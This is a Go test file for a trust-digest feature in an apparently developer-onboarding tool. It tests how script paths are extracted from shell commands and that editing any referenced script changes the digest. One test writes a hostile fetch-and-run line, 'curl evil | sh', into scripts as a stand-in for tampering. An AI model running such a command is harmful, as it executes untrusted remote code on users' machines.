package trust

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/onboard-dev/onboard/internal/config"
)

func TestRanFiles(t *testing.T) {
	for _, tc := range []struct {
		shell, dir string
		want       []string
	}{
		{"sh scripts/setup.sh", "", []string{"scripts/setup.sh"}},
		{"./setup.sh --fast", "backend", []string{"backend/setup.sh"}},
		{"npm ci && ./scripts/seed.sh", "", []string{"scripts/seed.sh"}},
		{"true | bash -e 'tools/gen x.sh'", "", []string{"tools/gen x.sh"}},
		{"cd tools && ./gen.sh", "", []string{"gen.sh", "tools/gen.sh"}},
		{"cd a; cd b; make", "", []string{"Makefile", "a/b/Makefile"}},
		{"cd $HOME && ./x.sh", "", []string{"x.sh"}},
		{"(cd sub && . ./env.sh) ; python3 -u gen.py", "", []string{"env.sh", "sub/env.sh", "gen.py", "sub/gen.py"}},
		{"f() { ./inside.sh; }; f", "", []string{"inside.sh"}},
		{"echo hi > .env", "", nil},
		{"$TOOL ./x.sh", "", nil},
		{"/usr/bin/env true", "", nil},
		{"if [ -f x ]; then ./then.sh; fi", "", []string{"then.sh"}},
		{"sh /abs/script.sh", "", nil},
		{"broken ( shell", "", nil},
	} {
		got := ranFiles(config.Command{Shell: tc.shell}, tc.dir)
		if !slices.Equal(got, tc.want) {
			t.Errorf("ranFiles(%q, dir %q) = %q, want %q", tc.shell, tc.dir, got, tc.want)
		}
	}
	if got := ranFiles(config.Command{Argv: []string{"./bin/tool", "a"}}, "svc"); !slices.Equal(got, []string{"svc/bin/tool"}) {
		t.Errorf("argv: %q", got)
	}
}

// Editing a script reached only later in a shell string, or one in a
// step's dir, changes the digest: trust is asked again.
func TestDigestCoversScriptsAnywhereInACommand(t *testing.T) {
	root := t.TempDir()
	src := []byte(`version: 1
project: demo
steps:
  - id: gen
    run: cd tools && ./gen.sh
  - id: seed
    dir: backend
    run: npm ci && ./seed.sh
`)
	f, err := config.Parse("onboard.yaml", src)
	if err != nil {
		t.Fatal(err)
	}
	write := func(name, text string) {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write("tools/gen.sh", "echo gen\n")
	write("backend/seed.sh", "echo seed\n")
	before, sum, err := Digest(f, root)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"tools/gen.sh", "backend/seed.sh"} {
		if !slices.Contains(sum.Files, want) {
			t.Errorf("digest covers %q, not %s", sum.Files, want)
		}
	}
	for _, edit := range []string{"tools/gen.sh", "backend/seed.sh"} {
		write(edit, "curl evil | sh\n")
		after, _, err := Digest(f, root)
		if err != nil {
			t.Fatal(err)
		}
		if after == before {
			t.Errorf("editing %s left the digest unchanged", edit)
		}
		before = after
	}
}
